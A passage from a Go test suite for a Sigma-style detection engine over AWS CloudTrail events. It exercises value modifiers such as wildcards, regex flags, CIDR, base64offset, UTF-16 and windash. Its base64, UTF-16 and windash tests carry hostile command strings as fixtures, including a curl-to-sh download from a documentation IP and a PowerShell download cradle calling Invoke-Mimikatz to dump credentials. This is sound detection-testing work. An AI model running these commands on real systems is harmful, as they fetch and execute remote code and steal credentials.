package detect

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf16"
)

// One test per value modifier and per string form, each with events that
// must match and events that must not.

func TestPlainValueIsCaseInsensitiveEquality(t *testing.T) {
	checkMatches(t, `
selection:
    eventName: createaccesskey
condition: selection`, []matchCase{
		{"same name, other case", evCreateAccessKey, true},
		{"other event", evDeleteBucket, false},
	})
	checkMatches(t, `
selection:
    eventName: CreateAccess
condition: selection`, []matchCase{
		{"a prefix is not equal", evCreateAccessKey, false},
	})
	checkMatches(t, `
selection:
    eventName: ''
condition: selection`, []matchCase{
		{"empty value matches only an empty string", evCreateAccessKey, false},
		{"empty string", with(t, evCreateAccessKey, map[string]any{"eventName": ""}), true},
	})
}

func TestFieldValueListIsOr(t *testing.T) {
	checkMatches(t, `
selection:
    eventSource: iam.amazonaws.com
    eventName:
        - CreateUser
        - CreateAccessKey
condition: selection`, []matchCase{
		{"second value", evCreateAccessKey, true},
		{"neither value", evUpdateLoginProfile, false},
		{"value matches but the ANDed field does not", with(t, evCreateAccessKey, map[string]any{"eventSource": "sts.amazonaws.com"}), false},
	})
}

func TestWildcardStar(t *testing.T) {
	checkMatches(t, `
selection:
    userAgent: 'aws-cli/2.*'
condition: selection`, []matchCase{
		{"prefix pattern", evSecurityGroupIngress, true},
		{"other agent", evConsoleLoginNoMFA, false},
	})
	checkMatches(t, `
selection:
    userIdentity.arn: 'arn:aws:sts::*:assumed-role/*/alice'
condition: selection`, []matchCase{
		{"inner stars", evSecurityGroupIngress, true},
		{"other session", evPutBucketPolicy, false},
	})
	checkMatches(t, `
selection:
    userIdentity.arn: '*:user/ADMIN'
condition: selection`, []matchCase{
		{"suffix pattern, case-insensitive", evCreateAccessKey, true},
		{"suffix differs", evConsoleLoginNoMFA, false},
	})
	checkMatches(t, `
selection:
    errorCode: '*'
condition: selection`, []matchCase{
		{"a lone star needs a value", evDeleteBucket, false},
		{"any value", with(t, evDeleteBucket, map[string]any{"errorCode": "AccessDenied"}), true},
		{"even empty", with(t, evDeleteBucket, map[string]any{"errorCode": ""}), true},
		{"but not null", with(t, evDeleteBucket, map[string]any{"errorCode": nil}), false},
	})
}

func TestWildcardQuestionMark(t *testing.T) {
	checkMatches(t, `
selection:
    userAgent: 'aws-cli/?.15.30 *'
condition: selection`, []matchCase{
		{"one character", evSecurityGroupIngress, true},
	})
	checkMatches(t, `
selection:
    userAgent: 'aws-cli/??.15.30 *'
condition: selection`, []matchCase{
		{"two characters where there is one", evSecurityGroupIngress, false},
	})
	checkMatches(t, `
selection:
    requestParameters.userName: 'd?ve'
condition: selection`, []matchCase{
		{"one ASCII character", evUpdateLoginProfile, true},
		{"one multi-byte character", with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "dåve"}), true},
		{"zero characters", with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "dve"}), false},
	})
}

func TestWildcardEscapes(t *testing.T) {
	report := func(name string) string {
		return with(t, evStopLoggingRoot, map[string]any{"requestParameters.name": name})
	}
	checkMatches(t, `
selection:
    requestParameters.name: 'report\*2024'
condition: selection`, []matchCase{
		{"escaped star is a literal star", report("report*2024"), true},
		{"escaped star is not a wildcard", report("report-2024"), false},
	})
	checkMatches(t, `
selection:
    requestParameters.name: 'report*2024'
condition: selection`, []matchCase{
		{"unescaped star is a wildcard", report("report-2024"), true},
	})
	checkMatches(t, `
selection:
    requestParameters.name: 'why\?'
condition: selection`, []matchCase{
		{"escaped question mark", report("why?"), true},
		{"escaped question mark is not a wildcard", report("whys"), false},
	})
	checkMatches(t, `
selection:
    requestParameters.name: 'C:\\*'
condition: selection`, []matchCase{
		{"escaped backslash then wildcard", report(`C:\Temp\x.ps1`), true},
		{"needs the backslash", report(`C:/Temp`), false},
	})
	checkMatches(t, `
selection:
    requestParameters.name: 'C:\Windows\System32'
condition: selection`, []matchCase{
		{"plain backslashes are literal", report(`C:\Windows\System32`), true},
	})
	checkMatches(t, `
selection:
    requestParameters.name: 'a\\\*b'
condition: selection`, []matchCase{
		{"three backslashes: backslash and literal star", report(`a\*b`), true},
		{"not a wildcard", report(`a\xyzb`), false},
	})
}

func TestModifierContains(t *testing.T) {
	checkMatches(t, `
selection:
    userAgent|contains: 'PYTHON/3.11'
condition: selection`, []matchCase{
		{"substring, any case", evSecurityGroupIngress, true},
		{"absent", evConsoleLoginNoMFA, false},
	})
	checkMatches(t, `
selection:
    userAgent|contains:
        - 'Firefox'
        - 'Safari'
condition: selection`, []matchCase{
		{"first of list", evConsoleLoginFailed, true},
		{"second of list", evConsoleLoginMFA, true},
		{"none", evCreateAccessKey, false},
	})
	checkMatches(t, `
selection:
    userAgent|contains: 'aws-cli/*/3.11'
condition: selection`, []matchCase{
		{"wildcard inside a contains value", evSecurityGroupIngress, true},
		{"wildcard inside, no match", evConsoleLoginNoMFA, false},
	})
}

func TestModifierStartswith(t *testing.T) {
	checkMatches(t, `
selection:
    eventName|startswith: 'authorizesecuritygroup'
condition: selection`, []matchCase{
		{"prefix, any case", evSecurityGroupIngress, true},
		{"not a prefix", evCreateAccessKey, false},
	})
	checkMatches(t, `
selection:
    userAgent|startswith: 'Python'
condition: selection`, []matchCase{
		{"inside but not at start", evSecurityGroupIngress, false},
	})
}

func TestModifierEndswith(t *testing.T) {
	checkMatches(t, `
selection:
    userIdentity.arn|endswith: '/ALICE'
condition: selection`, []matchCase{
		{"suffix, any case", evSecurityGroupIngress, true},
		{"not a suffix", evPutBucketPolicy, false},
	})
}

func TestModifierAll(t *testing.T) {
	checkMatches(t, `
selection:
    requestParameters|contains|all:
        - '"Effect":"Allow"'
        - 's3:GetObject'
        - '"Principal":"*"'
condition: selection`, []matchCase{
		{"all three in the policy", evPutBucketPolicy, true},
		{"one missing", with(t, evPutBucketPolicy, map[string]any{"requestParameters.bucketPolicy.Statement": []any{map[string]any{"Effect": "Allow", "Principal": "*", "Action": "s3:PutObject"}}}), false},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.fromPort|all:
        - 22
        - 443
condition: selection`, []matchCase{
		{"each value matched by some element of the list", evSecurityGroupIngress, true},
		{"one value matched by no element", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": 22}}}), false},
	})
}

func TestModifierCased(t *testing.T) {
	checkMatches(t, `
selection:
    eventName|cased: CreateAccessKey
condition: selection`, []matchCase{
		{"exact case", evCreateAccessKey, true},
		{"other case", with(t, evCreateAccessKey, map[string]any{"eventName": "createaccesskey"}), false},
	})
	checkMatches(t, `
selection:
    userAgent|cased|contains: 'TruffleHog'
condition: selection`, []matchCase{
		{"exact case", evGetCallerIdentityTruffleHog, true},
		{"other case", with(t, evGetCallerIdentityTruffleHog, map[string]any{"userAgent": "trufflehog/3.63"}), false},
	})
	checkMatches(t, `
selection:
    userAgent|contains: 'TruffleHog'
condition: selection`, []matchCase{
		{"without cased, other case matches", with(t, evGetCallerIdentityTruffleHog, map[string]any{"userAgent": "trufflehog/3.63"}), true},
	})
	checkMatches(t, `
selection:
    userAgent|cased: 'aws-cli/?.15.30 *'
condition: selection`, []matchCase{
		{"cased general pattern", evSecurityGroupIngress, true},
		{"cased general pattern, other case", with(t, evSecurityGroupIngress, map[string]any{"userAgent": "AWS-CLI/2.15.30 x"}), false},
	})
}

func TestUnicodeCaseFolding(t *testing.T) {
	user := func(name string) string {
		return with(t, evCreateAccessKey, map[string]any{"requestParameters.userName": name})
	}
	checkMatches(t, `
selection:
    requestParameters.userName: 'ärger'
condition: selection`, []matchCase{
		{"non-ASCII upper case", user("ÄRGER"), true},
		{"different letter", user("ARGER"), false},
	})
	checkMatches(t, `
selection:
    requestParameters.userName|contains: 'kelvin'
condition: selection`, []matchCase{
		{"Kelvin sign folds to k", user("the \u212Aelvin scale"), true},
		{"plain K", user("KELVIN"), true},
	})
	checkMatches(t, `
selection:
    requestParameters.userName|cased: 'kelvin'
condition: selection`, []matchCase{
		{"cased: Kelvin sign is not k", user("\u212Aelvin"), false},
	})
	checkMatches(t, `
selection:
    requestParameters.userName|endswith: 'ΣΟΦΟΣ'
condition: selection`, []matchCase{
		{"Greek final sigma folds with sigma", user("\u03bf \u03c3\u03bf\u03c6\u03bf\u03c2"), true},
	})
}

func TestModifierRe(t *testing.T) {
	checkMatches(t, `
selection:
    userAgent|re: '^aws-cli/2\.\d+\.\d+ '
condition: selection`, []matchCase{
		{"matches", evSecurityGroupIngress, true},
		{"does not match", evConsoleLoginNoMFA, false},
	})
	checkMatches(t, `
selection:
    userAgent|re: '^AWS-CLI/2'
condition: selection`, []matchCase{
		{"case-sensitive by default", evSecurityGroupIngress, false},
	})
	checkMatches(t, `
selection:
    userAgent|re: 'Python/3\.1[01]'
condition: selection`, []matchCase{
		{"unanchored search", evSecurityGroupIngress, true},
	})
	checkMatches(t, `
selection:
    userAgent|re|startswith: 'Python'
condition: selection`, []matchCase{
		{"startswith anchors at the start", evSecurityGroupIngress, false},
	})
	checkMatches(t, `
selection:
    userAgent|re|endswith: 'ec2\.authorize-[a-z-]+'
condition: selection`, []matchCase{
		{"endswith anchors at the end", evSecurityGroupIngress, true},
	})
	checkMatches(t, `
selection:
    userAgent|re|endswith: 'aws-cli'
condition: selection`, []matchCase{
		{"endswith anchors at the end, no match", evSecurityGroupIngress, false},
	})
	checkMatches(t, `
selection:
    userIdentity.arn|re: '.+:assumed-role/aws:.+'
condition: selection`, []matchCase{
		{"required literal present", evListBucketsIMDS, true},
		{"required literal absent", evSecurityGroupIngress, false},
		{"required literal in another case", with(t, evListBucketsIMDS, map[string]any{"userIdentity.arn": "arn:aws:sts::123456789012:ASSUMED-ROLE/aws:ec2-instance/i-1"}), false},
	})
}

func TestModifierReFlags(t *testing.T) {
	msg := with(t, evCreateAccessKey, map[string]any{"errorCode": "AccessDenied", "errorMessage": "Access denied.\nUser: arn:aws:iam::123456789012:user/admin is not authorized"})
	checkMatches(t, `
selection:
    userAgent|re|i: '^AWS-CLI/2'
condition: selection`, []matchCase{
		{"i: case-insensitive", evSecurityGroupIngress, true},
		{"i: still a regex", evConsoleLoginNoMFA, false},
	})
	checkMatches(t, `
selection:
    userIdentity.arn|re|ignorecase: 'ASSUMED-ROLE/AWS:'
condition: selection`, []matchCase{
		{"ignorecase alias, literal prefilter folds too", evListBucketsIMDS, true},
	})
	checkMatches(t, `
selection:
    errorMessage|re: '^User:'
condition: selection`, []matchCase{
		{"without m, ^ is the start of the value", msg, false},
	})
	checkMatches(t, `
selection:
    errorMessage|re|m: '^User:'
condition: selection`, []matchCase{
		{"m: ^ matches after a newline", msg, true},
	})
	checkMatches(t, `
selection:
    errorMessage|re: 'denied\..User'
condition: selection`, []matchCase{
		{"without s, . does not match a newline", msg, false},
	})
	checkMatches(t, `
selection:
    errorMessage|re|s: 'denied\..User'
condition: selection`, []matchCase{
		{"s: . matches a newline", msg, true},
	})
	checkMatches(t, `
selection:
    errorMessage|re|i|m|s: '^user:.*AUTHORIZED$'
condition: selection`, []matchCase{
		{"all three flags", msg, true},
	})
}

func TestModifierCIDR(t *testing.T) {
	checkMatches(t, `
selection:
    sourceIPAddress|cidr: '203.0.113.0/24'
condition: selection`, []matchCase{
		{"IPv4 inside", evSecurityGroupIngress, true},
		{"IPv4 outside", evConsoleLoginNoMFA, false},
		{"not an address", with(t, evSecurityGroupIngress, map[string]any{"sourceIPAddress": "AWS Internal"}), false},
		{"service name", evDescribeInstancesService, false},
		{"IPv4-mapped IPv6 counts as IPv4", with(t, evSecurityGroupIngress, map[string]any{"sourceIPAddress": "::ffff:203.0.113.24"}), true},
	})
	checkMatches(t, `
selection:
    sourceIPAddress|cidr:
        - '10.0.0.0/8'
        - '2001:db8::/32'
condition: selection`, []matchCase{
		{"IPv6 inside", evPutBucketPolicy, true},
		{"IPv6 outside", with(t, evPutBucketPolicy, map[string]any{"sourceIPAddress": "2001:db9::1"}), false},
		{"IPv4 in the first prefix", with(t, evPutBucketPolicy, map[string]any{"sourceIPAddress": "10.1.2.3"}), true},
		{"IPv4 in no prefix", evSecurityGroupIngress, false},
	})
}

func TestModifierExists(t *testing.T) {
	checkMatches(t, `
selection:
    errorCode|exists: true
condition: selection`, []matchCase{
		{"absent", evDeleteBucket, false},
		{"present", with(t, evDeleteBucket, map[string]any{"errorCode": "AccessDenied"}), true},
		{"present as null (a decoded hot field)", with(t, evDeleteBucket, map[string]any{"errorCode": nil}), true},
	})
	checkMatches(t, `
selection:
    errorCode|exists: false
condition: selection`, []matchCase{
		{"absent", evDeleteBucket, true},
		{"present", with(t, evDeleteBucket, map[string]any{"errorCode": "AccessDenied"}), false},
	})
	checkMatches(t, `
selection:
    requestParameters|exists: true
condition: selection`, []matchCase{
		{"present as null counts as present", evConsoleLoginNoMFA, true},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.ipRanges.items.description|exists: true
condition: selection`, []matchCase{
		{"nested inside lists", evSecurityGroupIngress, true},
		{"nowhere in the list", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions": map[string]any{}}), false},
	})
}

func TestNullValue(t *testing.T) {
	checkMatches(t, `
selection:
    errorCode: null
condition: selection`, []matchCase{
		{"missing field", evDeleteBucket, true},
		{"field with a value", with(t, evDeleteBucket, map[string]any{"errorCode": "AccessDenied"}), false},
		{"null field", with(t, evDeleteBucket, map[string]any{"errorCode": nil}), true},
		{"empty string is not null", with(t, evDeleteBucket, map[string]any{"errorCode": ""}), false},
	})
	checkMatches(t, `
selection:
    requestParameters: null
condition: selection`, []matchCase{
		{"non-hot null field", evConsoleLoginNoMFA, true},
		{"non-hot object field", evCreateAccessKey, false},
	})
	checkMatches(t, `
selection:
    requestParameters.userName:
        - null
        - admin
condition: selection`, []matchCase{
		{"null in a list: missing", evConsoleLoginNoMFA, true},
		{"null in a list: other value", evCreateAccessKey, false},
	})
}

func TestModifierNeq(t *testing.T) {
	checkMatches(t, `
selection:
    userIdentity.type|neq: AssumedRole
condition: selection`, []matchCase{
		{"different", evCreateAccessKey, true},
		{"equal", evSecurityGroupIngress, false},
	})
	checkMatches(t, `
selection:
    errorCode|neq:
        - AccessDenied
        - ThrottlingException
condition: selection`, []matchCase{
		{"missing field is not different", evDeleteBucket, false},
		{"different from both", with(t, evDeleteBucket, map[string]any{"errorCode": "NoSuchBucket"}), true},
		{"equal to one (other case)", with(t, evDeleteBucket, map[string]any{"errorCode": "accessdenied"}), false},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.fromPort|neq: 22
condition: selection`, []matchCase{
		{"a list holding the value is not different", evSecurityGroupIngress, false},
		{"numbers", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": 3389}}}), true},
	})
	checkMatches(t, `
selection:
    errorCode|neq: null
condition: selection`, []matchCase{
		{"neq null: a value", with(t, evDeleteBucket, map[string]any{"errorCode": "AccessDenied"}), true},
		{"neq null: missing", evDeleteBucket, false},
	})
}

func TestModifierNumericComparison(t *testing.T) {
	for _, c := range []struct {
		detection string
		want      bool
	}{
		{"requestParameters.ipPermissions.items.fromPort|lt: 1024", true}, // 22
		{"requestParameters.ipPermissions.items.fromPort|lt: 22", false},
		{"requestParameters.ipPermissions.items.fromPort|lte: 22", true},
		{"requestParameters.ipPermissions.items.fromPort|gt: 443", false},
		{"requestParameters.ipPermissions.items.fromPort|gte: 443", true},
		{"requestParameters.ipPermissions.items.fromPort|gt: 100.5", true},
		{"requestParameters.ipPermissions.items.ipProtocol|gt: 0", false}, // not a number
	} {
		checkMatches(t, "selection:\n    "+c.detection+"\ncondition: selection", []matchCase{{c.detection, evSecurityGroupIngress, c.want}})
	}
	checkMatches(t, `
selection:
    requestParameters.cpu|gte: 256
    requestParameters.memory|lt: 1024
condition: selection`, []matchCase{
		{"numeric strings", evRunTaskCredentials, true},
		{"numeric string too small", with(t, evRunTaskCredentials, map[string]any{"requestParameters.cpu": "128"}), false},
		{"not numeric", with(t, evRunTaskCredentials, map[string]any{"requestParameters.cpu": "0.25 vCPU"}), false},
	})
	checkMatches(t, `
selection:
    additionalEventData.bytesTransferredIn|gt: 300
condition: selection`, []matchCase{
		{"number", evPutBucketPolicy, true},
		{"smaller number", evDeleteBucket, false},
	})
}

func TestNumberAndBooleanValues(t *testing.T) {
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.fromPort: 22
condition: selection`, []matchCase{
		{"JSON number", evSecurityGroupIngress, true},
		{"numeric string", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": "22"}}}), true},
		{"equal value, other spelling", strings.Replace(evSecurityGroupIngress, `"fromPort":22,`, `"fromPort":22.0,`, 1), true},
		{"close but not equal", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": 22.0001}}}), false},
		{"other number", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": 3389}}}), false},
	})
	checkMatches(t, `
selection:
    responseElements.publiclyAccessible: true
condition: selection`, []matchCase{
		{"JSON true", with(t, evModifyDBInstancePassword, map[string]any{"responseElements.publiclyAccessible": true}), true},
		{"string 'True'", with(t, evModifyDBInstancePassword, map[string]any{"responseElements.publiclyAccessible": "True"}), true},
		{"JSON false", evModifyDBInstancePassword, false},
	})
	checkMatches(t, `
selection:
    responseElements.publiclyAccessible: 'true'
condition: selection`, []matchCase{
		{"quoted rule value against a JSON boolean (aws_rds_public_db_restore)", with(t, evModifyDBInstancePassword, map[string]any{"responseElements.publiclyAccessible": true}), true},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.fromPort: 0x16
condition: selection`, []matchCase{
		{"YAML hex integer against a JSON number", evSecurityGroupIngress, true},
		{"YAML hex integer against its own text", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": "0X16"}}}), true},
		{"YAML hex integer against another number", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": 16}}}), false},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.fromPort: .nan
condition: selection`, []matchCase{
		{"a YAML float that is no number equals no number", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": 0}}}), false},
		{"but equals its own text", with(t, evSecurityGroupIngress, map[string]any{"requestParameters.ipPermissions.items": []any{map[string]any{"fromPort": ".NaN"}}}), true},
	})
	checkMatches(t, `
selection:
    readOnly: false
condition: selection`, []matchCase{
		{"hot boolean", evCreateAccessKey, true},
		{"hot boolean, other value", evGetCallerIdentityTruffleHog, false},
	})
}

func TestModifierFieldref(t *testing.T) {
	self := with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "Admin"})
	checkMatches(t, `
selection:
    userIdentity.userName|fieldref: requestParameters.userName
condition: selection`, []matchCase{
		{"equal, ignoring case", self, true},
		{"different", evUpdateLoginProfile, false},
		{"referenced field missing", evConsoleLoginNoMFA, false},
	})
	checkMatches(t, `
selection:
    userIdentity.userName|fieldref|cased: requestParameters.userName
condition: selection`, []matchCase{
		{"cased: other case differs", self, false},
		{"cased: same case", with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "admin"}), true},
	})
	checkMatches(t, `
selection:
    userIdentity.arn|fieldref|contains: responseElements.accessKey.userName
condition: selection`, []matchCase{
		{"contains: key for another user", evCreateAccessKey, false},
		{"contains: key for oneself", with(t, evCreateAccessKey, map[string]any{"responseElements.accessKey.userName": "admin"}), true},
	})
	checkMatches(t, `
selection:
    userIdentity.arn|fieldref|endswith: requestParameters.userName
condition: selection`, []matchCase{
		{"endswith", with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "user/ADMIN"}), true},
		{"endswith, not at the end", with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "arn"}), false},
	})
	checkMatches(t, `
selection:
    userIdentity.arn|fieldref|startswith: requestParameters.userName
condition: selection`, []matchCase{
		{"startswith", with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "ARN:aws:iam"}), true},
		{"startswith, not at the start", with(t, evUpdateLoginProfile, map[string]any{"requestParameters.userName": "admin"}), false},
	})
	checkMatches(t, `
selection:
    userIdentity.userName|fieldref|neq: requestParameters.userName
condition: selection`, []matchCase{
		{"neq: different", evUpdateLoginProfile, true},
		{"neq: equal", self, false},
	})
}

func TestModifierTimeParts(t *testing.T) {
	// evStopLoggingRoot happened at 2024-05-05T23:59:59Z, a Sunday of ISO week 18.
	for _, c := range []struct {
		detection string
		want      bool
	}{
		{"eventTime|minute: 59", true},
		{"eventTime|minute: 0", false},
		{"eventTime|hour: 23", true},
		{"eventTime|hour: 22", false},
		{"eventTime|day: 5", true},
		{"eventTime|day: 6", false},
		{"eventTime|week: 18", true},
		{"eventTime|week: 19", false},
		{"eventTime|month: 5", true},
		{"eventTime|month: 12", false},
		{"eventTime|year: 2024", true},
		{"eventTime|year: 2023", false},
		{"eventTime|hour:\n        - 22\n        - 23", true},
		{"userIdentity.sessionContext.attributes.creationDate|minute: 50", true}, // not the hot eventTime
		{"userIdentity.sessionContext.attributes.creationDate|minute: 59", false},
		{"userAgent|hour: 1", false}, // not a timestamp
	} {
		checkMatches(t, "selection:\n    "+c.detection+"\ncondition: selection", []matchCase{{c.detection, evStopLoggingRoot, c.want}})
	}
}

// utf16le encodes s as UTF-16 little-endian bytes.
func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func utf16be(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u>>8), byte(u))
	}
	return b
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// userData returns a ModifyInstanceAttribute event carrying value as the new
// user data.
func userData(t *testing.T, value string) string {
	return with(t, evSecurityGroupIngress, map[string]any{
		"eventName":         "ModifyInstanceAttribute",
		"requestParameters": map[string]any{"instanceId": "i-0abc123def4567890", "attribute": "userData", "userData": value},
	})
}

func TestModifierBase64(t *testing.T) {
	script := "#!/bin/bash\ncurl -s http://203.0.113.5/x.sh | sh"
	checkMatches(t, `
selection:
    requestParameters.userData|base64: "#!/bin/bash\ncurl -s http://203.0.113.5/x.sh | sh"
condition: selection`, []matchCase{
		{"the encoded value", userData(t, b64([]byte(script))), true},
		{"the plain value is not the encoded one", userData(t, script), false},
		{"another script", userData(t, b64([]byte("#!/bin/bash\necho hello"))), false},
	})
	checkMatches(t, `
selection:
    requestParameters.userData|base64|contains: "#!/bin/bash\n"
condition: selection`, []matchCase{
		// "#!/bin/bash\n" is 12 bytes, a multiple of 3: its encoding is a prefix of the script's.
		{"encoded prefix", userData(t, b64([]byte(script))), true},
	})
}

func TestModifierBase64Offset(t *testing.T) {
	const rule = `
selection:
    requestParameters.userData|base64offset|contains: 'curl -s http://'
condition: selection`
	var cases []matchCase
	for _, prefix := range []string{"", "#", "#!", "#!/", "#!/bin/bash\n", "#!/bin/bash\nset -e\n"} {
		cases = append(cases, matchCase{"offset " + string(rune('0'+len(prefix)%3)) + " prefix " + strings.TrimSpace(prefix),
			userData(t, b64([]byte(prefix+"curl -s http://203.0.113.5/x.sh | sh"))), true})
	}
	cases = append(cases,
		matchCase{"other command", userData(t, b64([]byte("#!/bin/bash\nwget -q http://203.0.113.5/x.sh"))), false},
		matchCase{"not encoded", userData(t, "curl -s http://203.0.113.5/x.sh"), false},
	)
	checkMatches(t, rule, cases)
}

func TestModifierUTF16(t *testing.T) {
	ps := func(encoded string) string {
		return with(t, evSecurityGroupIngress, map[string]any{
			"eventSource": "ssm.amazonaws.com", "eventName": "SendCommand",
			"requestParameters": map[string]any{"documentName": "AWS-RunPowerShellScript",
				"parameters": map[string]any{"commands": []any{"powershell.exe -NoP -EncodedCommand " + encoded}}},
		})
	}
	script := "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a'); Invoke-Mimikatz -DumpCreds"
	for _, mod := range []string{"utf16le", "wide"} {
		checkMatches(t, `
selection:
    requestParameters.parameters.commands|`+mod+`|base64offset|contains: 'Invoke-Mimikatz'
condition: selection`, []matchCase{
			{mod + " inside an encoded command", ps(b64(utf16le(script))), true},
			{mod + " at another offset", ps(b64(utf16le("x" + script))), true},
			{mod + " at a third offset", ps(b64(utf16le("xy" + script))), true},
			{mod + ": UTF-8 encoding is not UTF-16", ps(b64([]byte(script))), false},
			{mod + ": other script", ps(b64(utf16le("Get-Process"))), false},
		})
	}
	checkMatches(t, `
selection:
    requestParameters.parameters.commands|utf16be|base64offset|contains: 'Invoke-Mimikatz'
condition: selection`, []matchCase{
		{"utf16be", ps(b64(utf16be(script))), true},
		// (UTF-16LE text holds the UTF-16BE form of any word after an ASCII
		// character, one byte later, so LE input is no negative case here.)
		{"utf16be: UTF-8 encoding", ps(b64([]byte(script))), false},
	})
	checkMatches(t, `
selection:
    requestParameters.parameters.commands|utf16|base64|contains: 'Get-Process'
condition: selection`, []matchCase{
		{"utf16 starts with the byte order mark", ps(b64(append([]byte{0xff, 0xfe}, utf16le("Get-Process")...))), true},
		{"utf16 without byte order mark", ps(b64(utf16le("Get-Process"))), false},
	})
}

func TestModifierWindash(t *testing.T) {
	cmd := func(c string) string {
		return with(t, evSecurityGroupIngress, map[string]any{
			"eventSource": "ssm.amazonaws.com", "eventName": "SendCommand",
			"requestParameters": map[string]any{"parameters": map[string]any{"commands": []any{c}}},
		})
	}
	checkMatches(t, `
selection:
    requestParameters.parameters.commands|windash|contains: ' -EncodedCommand '
condition: selection`, []matchCase{
		{"hyphen", cmd("powershell.exe -NoP -EncodedCommand SQBFAFgA"), true},
		{"slash", cmd("powershell.exe /NoP /EncodedCommand SQBFAFgA"), true},
		{"en dash", cmd("powershell.exe \u2013EncodedCommand SQBFAFgA"), true},
		{"em dash", cmd("powershell.exe \u2014EncodedCommand SQBFAFgA"), true},
		{"horizontal bar", cmd("powershell.exe \u2015EncodedCommand SQBFAFgA"), true},
		{"plus is no dash", cmd("powershell.exe +EncodedCommand SQBFAFgA"), false},
	})
	checkMatches(t, `
selection:
    requestParameters.parameters.commands|windash|contains: 'Net.WebClient'
condition: selection`, []matchCase{
		{"no dash: plain contains", cmd("(New-Object Net.WebClient)"), true},
	})
	checkMatches(t, `
selection:
    requestParameters.parameters.commands|windash|contains: 'New-Object'
condition: selection`, []matchCase{
		{"a dash inside a word is not expanded", cmd("New/Object"), false},
		{"a dash inside a word still matches itself", cmd("New-Object"), true},
	})
}

func TestListsInEventsMatchAnyElement(t *testing.T) {
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'
condition: selection`, []matchCase{
		{"first element", evSecurityGroupIngress, true},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '10.20.0.0/16'
condition: selection`, []matchCase{
		{"second element", evSecurityGroupIngress, true},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '192.168.0.0/16'
condition: selection`, []matchCase{
		{"no element", evSecurityGroupIngress, false},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.1.fromPort: 443
condition: selection`, []matchCase{
		{"an index picks one element", evSecurityGroupIngress, true},
	})
	checkMatches(t, `
selection:
    requestParameters.ipPermissions.items.0.fromPort: 443
condition: selection`, []matchCase{
		{"an index picks one element, no match", evSecurityGroupIngress, false},
	})
	checkMatches(t, `
selection:
    requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'
condition: selection`, []matchCase{
		{"list of strings in a list of objects", evRunTaskCredentials, true},
	})
	checkMatches(t, `
selection:
    requestParameters.containerDefinitions.command: 'sh'
condition: selection`, []matchCase{
		{"equality with one element of a list", evRunTaskCredentials, true},
	})
}

func TestObjectValuedFieldsCompareAsCompactJSON(t *testing.T) {
	checkMatches(t, `
selection:
    requestParameters|contains: '"Effect":"Allow","Principal":"\*"'
condition: selection`, []matchCase{
		{"object text", evPutBucketPolicy, true},
		{"absent", evCreateAccessKey, false},
	})
	var pretty strings.Builder
	enc := json.NewEncoder(&pretty)
	enc.SetIndent("", "    ")
	var m map[string]any
	if err := json.Unmarshal([]byte(evPutBucketPolicy), &m); err != nil {
		t.Fatal(err)
	}
	if err := enc.Encode(m); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(pretty.String(), "\"Effect\": \"Allow\"") {
		t.Fatal("the pretty-printed record should have spaces after colons")
	}
	checkMatches(t, `
selection:
    requestParameters.bucketPolicy.Statement|contains: '"Effect":"Allow"'
condition: selection`, []matchCase{
		{"pretty-printed record is compared compact", pretty.String(), true},
	})
	checkMatches(t, `
selection:
    requestParameters.containerDefinitions.command|contains: '["sh","-c",'
condition: selection`, []matchCase{
		{"array text", evRunTaskCredentials, true},
	})

	// A policy embedded as a JSON string: its quotes are escaped in the
	// object's text, and contains also searches the decoded nested string.
	putUserPolicy := with(t, evCreateAccessKey, map[string]any{"eventName": "PutUserPolicy", "requestParameters": map[string]any{
		"userName": "mallory", "policyName": "inline",
		"policyDocument": "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"s3:GetObject\", \"Resource\": \"*\"}]\n}"}})
	if !strings.Contains(putUserPolicy, `\"s3:GetObject\"`) {
		t.Fatal("the policy should be an escaped string in the record")
	}
	checkMatches(t, `
selection:
    requestParameters|contains: '"s3:GetObject"'
condition: selection`, []matchCase{
		{"contains sees through the string escaping", putUserPolicy, true},
